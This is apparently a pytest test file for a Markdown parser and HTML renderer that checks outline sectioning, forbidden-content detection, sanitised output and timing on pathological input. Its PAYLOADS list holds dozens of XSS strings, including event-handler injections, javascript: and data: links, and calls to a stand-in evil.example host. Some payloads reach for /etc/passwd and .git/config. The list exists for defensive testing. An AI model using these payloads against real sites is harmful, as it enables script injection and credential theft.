"""The body is cut at the outline's headings alone, what it may not hold is found where it stands, and its HTML is safe."""

from __future__ import annotations

import re
import time
from collections import Counter
from html.parser import HTMLParser

import nh3
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tongket.reading import Layout, body
from tongket.reading.body import Body

POINTS = ("1.1", "1.2", "2.1")
LAYOUT = Layout("tieu_de", "mo_dau", "noi_dung", POINTS, frozenset({"1", "2", *POINTS}), frozenset({"Viết vào đây."}))
ALLOWED = {
    **dict.fromkeys(["p", "br", "hr", "strong", "em", "s", "code", "pre", "blockquote", "ul", "li", "table", "thead", "tbody", "tr", "h1", "h2", "h3", "h4", "h5", "h6"], frozenset()),
    "a": {"href", "title", "rel"},
    "th": {"align"},
    "td": {"align"},
    "ol": {"start"},
}
SAFE_ADDRESS = re.compile(r"(?:https?://[^\s<>\"]+|mailto:[^\s<>\"]+|#[^\s<>\"]*)\Z")


class Page(HTMLParser):
    """Reads HTML as a browser's tokenizer would, refusing what is not allowed."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.words: list[str] = []
        self.tags: Counter[str] = Counter()
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        assert tag in ALLOWED, tag
        self.tags[tag] += 1
        for name, value in attributes:
            assert name in ALLOWED[tag], (tag, name)
            if name == "href":
                assert SAFE_ADDRESS.match(value or ""), value
            self.words.append(value or "")

    def handle_startendtag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attributes)

    def handle_data(self, data: str) -> None:
        self.words.append(data)

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"comment {data!r}")

    handle_decl = unknown_decl = handle_pi = handle_comment


def parse(text: str) -> Body:
    return body.parse("x.md", text, LAYOUT)


def found(text: str) -> list[tuple[int, int, str]]:
    return [(problem.line, problem.column, problem.rule) for problem in parse(text).problems]


def cut(text: str) -> list[tuple[int, str, str, int, str]]:
    return [(one.level, one.number, one.title, one.line, one.text) for one in parse(text).sections]


@pytest.mark.parametrize(
    ("text", "sections"),
    [
        pytest.param("## 1. Một\n\nchữ\n\n### 1.1. Hai\nchữ\n", [(2, "1", "Một", 1, "chữ"), (3, "1.1", "Hai", 5, "chữ")], id="numbered headings"),
        pytest.param("# Tên\nđầu\n", [(1, "", "Tên", 1, "đầu")], id="a title"),
        pytest.param("### 1.1 Một\n### 1.2) Hai\n", [(3, "1.1", "Một", 1, ""), (3, "1.2", "Hai", 2, "")], id="a number without its dot, or with a bracket"),
        pytest.param("Tên\n===\nchữ\n", [(1, "", "Tên", 1, "chữ")], id="a heading underlined with equal signs"),
        pytest.param("\n1.1. Một\n---\nchữ\n", [(2, "1.1", "Một", 2, "chữ")], id="a heading underlined with hyphens"),
        pytest.param("```\n## 1. Mã\n```\n~~~\n## 2. Mã\n~~~\n", [], id="headings in code are code"),
        pytest.param("    ## 1. Mã\n", [], id="an indented heading is code"),
        pytest.param("> ## 1. Trích\n", [], id="headings in quotations are quoted"),
        pytest.param("- ## 1. Mục\n\n  ## 2. Mục\n", [], id="headings in lists are items"),
        pytest.param("<!--\n## 1. Ẩn\n-->\n", [], id="headings in comments are hidden"),
        pytest.param("##1. Không\n", [], id="no blank after the signs"),
        pytest.param("\\## 1. Không\n", [], id="a heading escaped"),
        pytest.param("#### Tiểu mục\nchữ\n", [], id="a deeper heading of the writer's own"),
        pytest.param("#### 1.1. Một\nchữ\n", [(4, "1.1", "Một", 1, "chữ")], id="a deeper heading with a number of the outline"),
        pytest.param("#### 7.7. Bảy\nchữ\n", [], id="a deeper heading with another number"),
        pytest.param(
            "### 1.1. Một\n\n#### 1.2. Riêng\nchữ\n",
            [(3, "1.1", "Một", 1, "#### 1.2. Riêng\nchữ")],
            id="a deeper heading under a point is its own, whatever number it bears",
        ),
        pytest.param(
            "## 1. Một\n#### 1.1. Hai\n#### 1.2. Ba\n",
            [(2, "1", "Một", 1, ""), (4, "1.1", "Hai", 2, ""), (4, "1.2", "Ba", 3, "")],
            id="points at one deeper level are points, side by side",
        ),
        pytest.param(
            "### 7.7. Lạ\n#### 1.1. Một\n",
            [(3, "7.7", "Lạ", 1, ""), (4, "1.1", "Một", 2, "")],
            id="a deeper heading under what is no point",
        ),
        pytest.param("# 2022 Báo cáo\nđầu\n", [(1, "", "2022 Báo cáo", 1, "đầu")], id="a title that begins with a year"),
        pytest.param("# 10 năm\n", [(1, "", "10 năm", 1, "")], id="a title that begins with a count"),
        pytest.param("# 2022. Báo cáo\n", [(1, "", "2022. Báo cáo", 1, "")], id="a title that begins with a number and a dot"),
        pytest.param("# 1. Một\n", [(1, "1", "Một", 1, "")], id="a section at the title's level"),
        pytest.param("# 1 Một\n", [(1, "1", "Một", 1, "")], id="a section at the title's level without its dot"),
        pytest.param(
            "# 2 năm\n## 2. Hai\n",
            [(1, "", "2 năm", 1, ""), (2, "2", "Hai", 2, "")],
            id="a title that begins with a section's number",
        ),
        pytest.param(
            "# 2. Hai\n## 2. Hai\n",
            [(1, "2", "Hai", 1, ""), (2, "2", "Hai", 2, "")],
            id="a section written twice, once at the title's level",
        ),
        pytest.param(
            "# Tên\n# 2022 nữa\n",
            [(1, "", "Tên", 1, ""), (1, "2022", "nữa", 2, "")],
            id="a numbered heading after the title is no title",
        ),
        pytest.param("## 1. Một ##\nchữ\n", [(2, "1", "Một", 1, "chữ")], id="closing signs"),
        pytest.param("  ## 1. Một\n", [(2, "1", "Một", 1, "")], id="up to three blanks before"),
        pytest.param("## **1. Một**\n", [(2, "", "**1. Một**", 1, "")], id="a bold number is no number"),
        pytest.param("### 1.1. Một\n\n#### Riêng\n\nchữ\n\n### 1.2. Hai\n", [(3, "1.1", "Một", 1, "#### Riêng\n\nchữ"), (3, "1.2", "Hai", 7, "")], id="own headings belong to the point"),
    ],
)
def test_only_headings_of_the_outline_cut(text: str, sections: list[tuple[int, str, str, int, str]]) -> None:
    assert cut(text) == sections


def test_text_before_the_first_heading_and_line_numbers_are_kept() -> None:
    read = parse("\n\nđầu\n\n## 1. Một\n\n\nchữ một\nchữ hai\n\n")
    assert (read.before.text, read.before.text_line) == ("đầu", 3)
    assert [(one.line, one.text, one.text_line) for one in read.sections] == [(5, "chữ một\nchữ hai", 8)]


def test_hints_are_noted_with_the_section_they_stand_in() -> None:
    read = parse("<!-- a -->\n\n## 1. Một\n\n<!-- b\nb -->\n\n<!-- c -->\n\n## 2. Hai\n\nchữ\n")
    assert read.before.hints == (1,)
    assert [one.hints for one in read.sections] == [(5, 8), ()]
    assert read.problems == ()


@pytest.mark.parametrize(
    ("text", "problems"),
    [
        pytest.param("chữ\n\n<div>\nchữ\n</div>\n", [(3, 1, "body-html")], id="a block"),
        pytest.param("một <b>hai</b>\n", [(1, 5, "body-html"), (1, 11, "body-html")], id="in a sentence"),
        pytest.param("một\nhai <b\nx>ba\n", [(2, 5, "body-html")], id="over two lines"),
        pytest.param("`a\nb` <b>\n", [(2, 4, "body-html")], id="after code over two lines"),
        pytest.param("`<b>` <b>\n", [(1, 7, "body-html")], id="after the same signs in code"),
        pytest.param("- một\n  - hai <b>\n", [(2, 9, "body-html")], id="in a list in a list"),
        pytest.param("> > một <b>\n", [(1, 9, "body-html")], id="in a quotation in a quotation"),
        pytest.param("- một\n\n  <div>x</div>\n", [(3, 3, "body-html")], id="a block in a list"),
        pytest.param("| a | b |\n|---|---|\n| x | y <b> |\n", [(3, 9, "body-html")], id="in a table"),
        pytest.param("## 1. Một <b>\n", [(1, 11, "body-html")], id="in a heading"),
        pytest.param("chữ <!-- ẩn -->\n", [(1, 5, "body-html")], id="a comment in a sentence"),
        pytest.param("<!-- ẩn -->\n", [], id="a comment of its own is a hint"),
        pytest.param("1 < 2 và <https://vi-du.vn>\n", [], id="signs and addresses that are no HTML"),
        pytest.param("![a](b.png)\n", [(1, 1, "body-image")], id="an image in the repository"),
        pytest.param("x ![a](https://vi-du.vn/b.png) ![c](//d)\n", [(1, 3, "body-image"), (1, 32, "body-image")], id="two images on a line"),
        pytest.param("![a][1]\n\n[1]: https://vi-du.vn\n", [(1, 1, "body-image"), (3, 1, "body-link-reference")], id="an image by reference"),
        pytest.param("![a](data:image/svg+xml;base64,PHN2Zz4=)\n", [(1, 1, "body-image")], id="an image written out"),
        pytest.param("[a][b]\n\n[b]: https://vi-du.vn\n", [(3, 1, "body-link-reference")], id="a link by reference"),
        pytest.param("```\nmã\n", [(1, 1, "body-fence-unclosed")], id="a fence left open"),
        pytest.param("```\nmã", [(1, 1, "body-fence-unclosed")], id="a fence left open without a line end"),
        pytest.param("```", [(1, 1, "body-fence-unclosed")], id="a fence and nothing else"),
        pytest.param("~~~\nmã\n```\n", [(1, 1, "body-fence-unclosed")], id="a fence closed by another sign"),
        pytest.param("````\nmã\n```\n", [(1, 1, "body-fence-unclosed")], id="a fence closed by too few signs"),
        pytest.param("- ```\n  mã\n\nchữ\n", [(1, 1, "body-fence-unclosed")], id="a fence left open in a list"),
        pytest.param("```\nmã\n```\n\n~~~\n\n~~~\n```\n```", [], id="fences that close"),
        pytest.param("| a | b |\n|---|---|\n| 1 | 2 | ba |\n", [(3, 1, "body-lost")], id="a cell too many"),
        pytest.param("``` chữ\nmã\n```\n", [(1, 1, "body-lost")], id="words beside a fence"),
    ],
)
def test_what_a_report_may_not_hold_is_found_where_it_stands(text: str, problems: list[tuple[int, int, str]]) -> None:
    assert found(text) == problems


def test_text_too_dense_to_read_is_reported_once_and_nothing_is_said_to_be_missing() -> None:
    read = parse("## 1. Một\n\n" + "[" * 2001 + "\n")
    assert [(problem.line, problem.column, problem.rule) for problem in read.problems] == [(3, 2001, "text-brackets")]
    assert read.unread
    assert found("x" * 6001) == [(1, 6000, "text-line-too-long")]
    assert found("x" * 6000) == []


@pytest.mark.parametrize(
    ("markdown", "html"),
    [
        pytest.param("một **hai** *ba* ~~bốn~~ `năm`", "<p>một <strong>hai</strong> <em>ba</em> <s>bốn</s> <code>năm</code></p>\n", id="signs"),
        pytest.param("một  \nhai\nba", "<p>một<br>\nhai\nba</p>\n", id="line breaks"),
        pytest.param("a <b>x</b>", "<p>a &lt;b&gt;x&lt;/b&gt;</p>\n", id="HTML is shown as text"),
        pytest.param("<div>\nx\n</div>", "&lt;div&gt;\nx\n&lt;/div&gt;", id="a block of HTML is shown as text"),
        pytest.param("![ảnh](https://vi-du.vn/a.png)", "<p>ảnh</p>\n", id="an image is shown as its words"),
        pytest.param("[a](https://vi-du.vn \"b\")", '<p><a href="https://vi-du.vn" title="b" rel="noopener noreferrer nofollow">a</a></p>\n', id="a link"),
        pytest.param("[a](javascript:alert(1))", "<p>[a](javascript:alert(1))</p>\n", id="a script address stays text"),
        pytest.param("[a](data:text/html,x)", "<p>[a](data:text/html,x)</p>\n", id="a data address stays text"),
        pytest.param("[a](//vi-du.vn)", "<p>[a](//vi-du.vn)</p>\n", id="an address without a scheme stays text"),
        pytest.param("| a | b | c |\n|:--|:-:|--:|\n| 1 | 2 | 3 |", '<table>\n<thead>\n<tr>\n<th align="left">a</th>\n<th align="center">b</th>\n<th align="right">c</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n<td align="left">1</td>\n<td align="center">2</td>\n<td align="right">3</td>\n</tr>\n</tbody>\n</table>\n', id="a table keeps its alignment"),
        pytest.param("3. ba\n4. bốn", '<ol start="3">\n<li>ba</li>\n<li>bốn</li>\n</ol>\n', id="a list keeps its first number"),
        pytest.param("#### Một\n##### Hai\n###### Ba", "<h4>Một</h4>\n<h5>Hai</h5>\n<h6>Ba</h6>\n", id="headings that fit already"),
        pytest.param("# Một\n## Hai\n###### Ba", "<h4>Một</h4>\n<h5>Hai</h5>\n<h6>Ba</h6>\n", id="headings are shifted below the point's, six at most"),
        pytest.param("> ###### Một", "<blockquote>\n<h4>Một</h4>\n</blockquote>\n", id="headings are shifted up too"),
        pytest.param("```python\nx < 1\n```", "<pre><code>x &lt; 1\n</code></pre>\n", id="code bears no class"),
    ],
)
def test_rendering(markdown: str, html: str) -> None:
    assert body.render(markdown, 4) == html
    Page(html)


def test_plain_words() -> None:
    markdown = "#### Một\n\n**hai**\nba [bốn](https://vi-du.vn)\n\n- năm\n\n| a | b |\n|---|---|\n| `sáu` | |\n"
    assert body.plain(markdown) == "Một\nhai ba bốn\nnăm\na\nb\nsáu"


PAYLOADS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<svg/onload=alert(1)//",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<video poster=//evil.example/x><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<form action=//evil.example><input name=matkhau></form>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.example/x.swf>",
    "<a href=javascript:alert(1)>x</a>",
    "<div style=\"position:fixed;inset:0\">x</div>",
    "<!--> <img src=x onerror=alert(1)> -->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php echo '<img src=x onerror=alert(1)>' ?>",
    "<!DOCTYPE html><img src=x onerror=alert(1)>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=alert(1)&gt;\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><img src=x onerror=alert(1)></template>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "</p><img src=x onerror=alert(1)><p>",
    "# T <img src=x onerror=alert(1)>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "> <img src=x onerror=alert(1)>",
    "- <img src=x onerror=alert(1)>",
    "```<img src=x onerror=alert(1)>\nx\n```",
    "```\" onmouseover=alert(1) x=\"\nx\n```",
    "~~~html title=\"<img src=x onerror=alert(1)>\"\n<script>alert(1)</script>\n~~~",
    "`<img src=x onerror=alert(1)>`",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](\u2028javascript:alert(1))",
    "[x](\u00a0javascript:alert(1))",
    "[x](&#1;javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](\\\\evil.example)",
    "[x](https:/\\evil.example)",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<https://a.example/\"onmouseover=alert(1)>",
    "[x](https://a.example/\"onmouseover=\"alert(1))",
    "[x](https://a.example '\" onmouseover=alert(1) x=\"')",
    "[x](https://a.example \"</a><img src=x onerror=alert(1)>\")",
    "[a](https://a.example){: onclick=alert(1) }",
    "![x](https://a.example/beacon.png)",
    "![x](x \"onerror=alert(1)\")",
    "![<img src=x onerror=alert(1)>](https://a.example)",
    "![\" onerror=\"alert(1)](https://a.example)",
    "{{ config.site_name }} {% include 'x' %}",
    "--8<-- \".git/config\"",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "<p/onclick=alert(1)>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
)  # fmt: skip


@pytest.mark.parametrize("payload", PAYLOADS, ids=lambda payload: payload[:40])
@pytest.mark.parametrize("around", ["{}", "chữ {} chữ", "- a\n\n  {}", "### 1.1. {}\n\n{}"], ids=["alone", "in a sentence", "in a list", "in a heading"])
def test_no_payload_leaves_the_allowed_elements(payload: str, around: str) -> None:
    html = body.render(around.replace("{}", payload), 4)
    Page(html)
    assert "javascript:" not in re.sub(r">[^<]*<", "><", f">{html}<").lower()


@pytest.mark.parametrize(
    "text",
    [
        pytest.param("<![" * 390, id="declarations"),
        pytest.param("![" * 390, id="images left open"),
        pytest.param("[a](" * 390, id="links left open"),
        pytest.param("[a" * 195 + "](b)" * 195, id="links in links"),
        pytest.param(("*a **b _c " * 590 + "\n") * 30, id="emphasis left open"),
        pytest.param(("`a``b```c" * 650 + "\n") * 30, id="code left open"),
        pytest.param(("<a b='" * 980 + "\n") * 30, id="tags left open"),
        pytest.param(("<!--" * 1400 + "\n") * 30, id="comments left open"),
        pytest.param("\n".join("  " * depth + "- a" for depth in range(400)), id="lists in lists"),
        pytest.param("\n".join(">" * depth + " a" for depth in range(600)), id="quotations in quotations"),
        pytest.param("> " * 300 + "a\n" + "b\n" * 60_000, id="lazy lines of a deep quotation"),
        pytest.param("|".join("a" * 2900) + "\n" + "|".join(["-"] * 2900) + "\n" + "a\n" * 60_000, id="a table that is wide and long"),
        pytest.param("- a\n" * 45_000, id="a long list"),
        pytest.param("a\n=\n" * 40_000, id="many headings"),
        pytest.param("<div>\n\n" * 25_000, id="many blocks"),
    ],
)
def test_hostile_text_is_read_in_time(text: str) -> None:
    start = time.process_time()
    parse(text[:190_000])
    body.render(text[:190_000], 4)
    assert time.process_time() - start < 60  # a parser that goes quadratic takes many minutes


PIECES = ("chữ", "hai từ", "12", "*", "**", "_", "~~", "`", "> ", "- ", "1. ", "# ", "### 1.1. ", "\n", "\n\n", "    ", "  \n", "| a | b |\n|---|---|\n| c | d |\n", "| x ", "[chữ](https://vi-du.vn)", "[a](b)", "<b>", "<!--", "-->", "<div>\n", "\\", "```\n", "~~~\n", "---\n", "===\n", "!", "[", "]", "(", ")", "<", ">", ":", "{{ x }}", "<https://vi-du.vn>")  # fmt: skip
markdown_like = st.lists(st.sampled_from(PIECES), max_size=25).map("".join)


@settings(max_examples=600, deadline=None, derandomize=True)
@given(markdown_like)
def test_no_word_is_lost_without_a_problem_and_nothing_unsafe_comes_out(text: str) -> None:
    read = parse(text)
    html = body.render(text, 4)
    page = Page(html)
    assert nh3.clean(html, tags=set(ALLOWED), attributes={tag: set(names) - {"rel"} for tag, names in ALLOWED.items()}, link_rel="noopener noreferrer nofollow") == html
    if not read.problems:
        letters = Counter(char for char in text if char.isalpha())
        assert not letters - Counter("".join(page.words))
    for problem in read.problems:
        assert 1 <= problem.line <= text.count("\n") + 1
        assert 1 <= problem.column <= len(text.split("\n")[problem.line - 1]) + 1


@settings(max_examples=300, deadline=None, derandomize=True)
@given(st.text(st.characters(exclude_categories=["Cs"]) | st.sampled_from("<>[]()!`*_#|\n&;:/\"'"), max_size=80))
def test_any_text_renders_to_allowed_elements(text: str) -> None:
    parse(text)
    Page(body.render(text, 4))
    body.plain(text)


def test_sections_and_title_together_hold_every_line_of_the_body() -> None:
    text = "đầu\n\n# Tên\n\nmở\n\n## 1. Một\n\nlạc\n\n### 1.1. Hai\n\nnội\n\n# Cuối\n\nsót\n"
    read = parse(text)
    kept = "\n".join([read.before.text, *(f"{one.title}\n{one.text}" for one in read.sections)])
    assert {word for word in re.findall(r"\w+", text) if word.isalpha()} <= set(re.findall(r"\w+", kept))
